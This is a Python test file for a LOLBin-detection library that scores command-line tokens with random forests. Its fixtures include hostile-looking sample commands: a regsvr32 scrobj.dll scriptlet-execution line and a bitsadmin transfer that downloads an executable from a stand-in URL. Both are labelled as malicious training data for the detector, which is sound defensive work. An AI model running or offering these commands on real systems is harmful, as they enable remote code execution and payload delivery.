import numpy as np
import pytest

from lolal.embeddings import EmbeddingConfig, EmbeddingModel
from lolal.tokenizer import LOLBINS, RawSample, build_vocabulary
from lolal.token_scores import (
    TokenScoreTable,
    build_score_table,
    fit_token_forest,
    score_token,
    score_tokens,
    token_features,
)


def fake_embedding(tokens, dim=8, seed=0):
    rng = np.random.default_rng(seed)
    config = EmbeddingConfig(dim=dim, epochs=1, seed=seed)
    return EmbeddingModel(
        config=config,
        tokens=list(tokens),
        vectors=rng.normal(size=(len(tokens), dim)),
    )


class TestTokenFeatures:
    def test_length_is_dim_plus_lolbin_count(self):
        emb = fake_embedding(["certutil", "<rare>"], dim=16)
        feats = token_features("certutil", "Certutil", emb)
        assert feats.shape == (16 + 5,)

    def test_one_hot_slot(self):
        emb = fake_embedding(["decode", "<rare>"], dim=4)
        feats = token_features("decode", "Certutil", emb)
        hot = feats[4:]
        assert hot[LOLBINS.index("Certutil")] == 1.0
        assert hot.sum() == 1.0

    def test_oov_token_uses_rare_vector(self):
        emb = fake_embedding(["known", "<rare>"], dim=4)
        feats = token_features("zzz-unseen", "Msbuild", emb)
        np.testing.assert_array_equal(feats[:4], emb.lookup("<rare>"))


def labeled_rows(n_pos=40, n_neg=40, dim=6, seed=0, margin=5.0):
    # every coordinate separates the classes, so each tree isolates them
    rng = np.random.default_rng(seed)
    pos = rng.normal(loc=margin, size=(n_pos, dim))
    neg = rng.normal(loc=-margin, size=(n_neg, dim))
    X = np.vstack([pos, neg])
    y = np.array([1] * n_pos + [0] * n_neg)
    return X, y


class TestFitTokenForest:
    def test_single_label_rejected(self):
        X, _ = labeled_rows()
        with pytest.raises(ValueError, match="degenerate"):
            fit_token_forest((X, np.ones(len(X), dtype=int)))

    def test_separable_scores_at_extremes(self):
        X, y = labeled_rows()
        forest = fit_token_forest((X, y), n_trees=10, seed=1)
        scores = score_tokens(forest, X)
        assert (scores[y == 1] == 1.0).all()
        assert (scores[y == 0] == 0.0).all()

    def test_fixed_seed_reproducible(self):
        X, y = labeled_rows(seed=2)
        f1 = fit_token_forest((X, y), n_trees=5, seed=7)
        f2 = fit_token_forest((X, y), n_trees=5, seed=7)
        for t1, t2 in zip(f1.trees, f2.trees):
            np.testing.assert_array_equal(t1.feature, t2.feature)
            np.testing.assert_array_equal(t1.counts, t2.counts)

    def test_row_order_invariance(self):
        X, y = labeled_rows(seed=3)
        perm = np.random.default_rng(4).permutation(len(y))
        f1 = fit_token_forest((X, y), n_trees=5, seed=9)
        f2 = fit_token_forest((X[perm], y[perm]), n_trees=5, seed=9)
        probe = np.random.default_rng(5).normal(size=(30, X.shape[1]))
        np.testing.assert_array_equal(
            score_tokens(f1, probe), score_tokens(f2, probe)
        )


class TestScoreToken:
    def test_brute_force_mean_of_leaf_ratios(self):
        # oracle: walk each tree by hand, take positives/total at the leaf,
        # then average; must agree exactly on small forests
        X, y = labeled_rows(25, 25, dim=4, seed=6)
        for n_trees in (1, 2, 3):
            forest = fit_token_forest((X, y), n_trees=n_trees, seed=n_trees)
            probe = np.random.default_rng(7).normal(size=(20, 4))
            for row in probe:
                ratios = []
                for tree in forest.trees:
                    node = 0
                    while tree.feature[node] >= 0:
                        if row[tree.feature[node]] <= tree.threshold[node]:
                            node = tree.left[node]
                        else:
                            node = tree.right[node]
                    cnt = tree.counts[node]
                    ratios.append(cnt[1] / cnt.sum())
                expected = np.mean(ratios)
                assert score_token(forest, row) == expected

    def test_two_tree_hand_arithmetic(self):
        # two stub trees whose leaves give ratios 0.5 and 1.0
        from lolal.forest import DecisionTree, RandomForest

        t1 = DecisionTree(
            feature=np.array([-1], dtype=np.int32),
            threshold=np.zeros(1),
            left=np.array([-1], dtype=np.int32),
            right=np.array([-1], dtype=np.int32),
            counts=np.array([[2.0, 2.0]]),
        )
        t2 = DecisionTree(
            feature=np.array([-1], dtype=np.int32),
            threshold=np.zeros(1),
            left=np.array([-1], dtype=np.int32),
            right=np.array([-1], dtype=np.int32),
            counts=np.array([[0.0, 3.0]]),
        )
        forest = RandomForest(trees=[t1, t2], n_classes=2)
        assert score_token(forest, np.zeros(3)) == 0.75

    def test_scores_in_unit_interval(self):
        X, y = labeled_rows(seed=8)
        forest = fit_token_forest((X, y), n_trees=6, seed=8)
        probe = np.random.default_rng(9).normal(scale=3, size=(100, X.shape[1]))
        scores = score_tokens(forest, probe)
        assert (scores >= 0).all() and (scores <= 1).all()

    def test_monotone_evidence(self):
        # adding positives to the leaf a point lands in never lowers its score
        X, y = labeled_rows(seed=10)
        forest = fit_token_forest((X, y), n_trees=3, seed=10)
        row = X[0]
        before = score_token(forest, row)
        tree = forest.trees[0]
        leaf = tree.apply(row.reshape(1, -1))[0]
        tree.counts[leaf][1] += 5
        assert score_token(forest, row) >= before


def little_corpus():
    samples = []
    for i in range(25):
        samples.append(RawSample(
            f"m{i}", "cmd.exe /c",
            "regsvr32.exe /s /u /i:file.sct scrobj.dll",
            lolbin="Regsvr32", label="Regsvr32Lolbin",
        ))
    for i in range(25):
        samples.append(RawSample(
            f"b{i}", "services.exe",
            "regsvr32 /s c:\\program files\\common\\component.dll",
            lolbin="Regsvr32", label="Benign",
        ))
    return samples


class TestBuildScoreTable:
    def test_malicious_only_token_scores_high(self):
        samples = little_corpus()
        vocab = build_vocabulary(samples, min_count=5)
        tokens = sorted({t for s in samples for t in __import__("lolal.tokenizer", fromlist=["tokenize"]).tokenize(s).tokens})
        emb = fake_embedding(tokens + ["<rare>", "<number>"], dim=6, seed=11)
        table = build_score_table(samples, emb, vocab, n_trees=10, seed=11)
        assert table.lookup("scrobj", "Regsvr32") > 0.9
        assert table.lookup("sct", "Regsvr32") > 0.9

    def test_unseen_pair_gets_default(self):
        table = TokenScoreTable()
        assert table.lookup("nope", "Certutil") == 0.5

    def test_opposite_contexts_differ(self):
        # the same token is malicious under one binary, benign under another
        samples = []
        for i in range(30):
            samples.append(RawSample(
                f"m{i}", "", "bitsadmin /transfer payload http://x/y.exe",
                lolbin="Bitsadmin", label="BitsadminLolbin"))
            samples.append(RawSample(
                f"b{i}", "", "certutil -verify payload",
                lolbin="Certutil", label="Benign"))
        vocab = build_vocabulary(samples, min_count=5)
        from lolal.tokenizer import tokenize
        tokens = sorted({t for s in samples for t in tokenize(s).tokens})
        emb = fake_embedding(tokens + ["<rare>", "<number>"], dim=6, seed=12)
        table = build_score_table(samples, emb, vocab, n_trees=10, seed=12)
        hot = table.lookup("payload", "Bitsadmin")
        cold = table.lookup("payload", "Certutil")
        assert hot - cold > 0.5

    def test_sample_order_invariance(self):
        samples = little_corpus()
        vocab = build_vocabulary(samples, min_count=5)
        from lolal.tokenizer import tokenize
        tokens = sorted({t for s in samples for t in tokenize(s).tokens})
        emb = fake_embedding(tokens + ["<rare>", "<number>"], dim=6, seed=13)
        t1 = build_score_table(samples, emb, vocab, n_trees=5, seed=13)
        t2 = build_score_table(list(reversed(samples)), emb, vocab, n_trees=5, seed=13)
        assert t1.scores == t2.scores

    def test_all_scores_in_unit_interval(self):
        samples = little_corpus()
        vocab = build_vocabulary(samples, min_count=5)
        from lolal.tokenizer import tokenize
        tokens = sorted({t for s in samples for t in tokenize(s).tokens})
        emb = fake_embedding(tokens + ["<rare>", "<number>"], dim=6, seed=14)
        table = build_score_table(samples, emb, vocab, n_trees=5, seed=14)
        assert all(0.0 <= s <= 1.0 for s in table.scores.values())

    def test_csv_export(self, tmp_path):
        table = TokenScoreTable(scores={("scrobj", "Regsvr32"): 0.916, ("plugin", "Bitsadmin"): 0.0})
        path = tmp_path / "scores.csv"
        table.write_csv(str(path))
        lines = path.read_text().strip().splitlines()
        assert lines[0] == "token,lolbin,score"
        assert lines[1].startswith("scrobj,Regsvr32")

    def test_round_trip(self):
        table = TokenScoreTable(scores={("a", "Certutil"): 0.25})
        clone = TokenScoreTable.from_dict(table.to_dict())
        assert clone.scores == table.scores
        assert clone.default_score == table.default_score
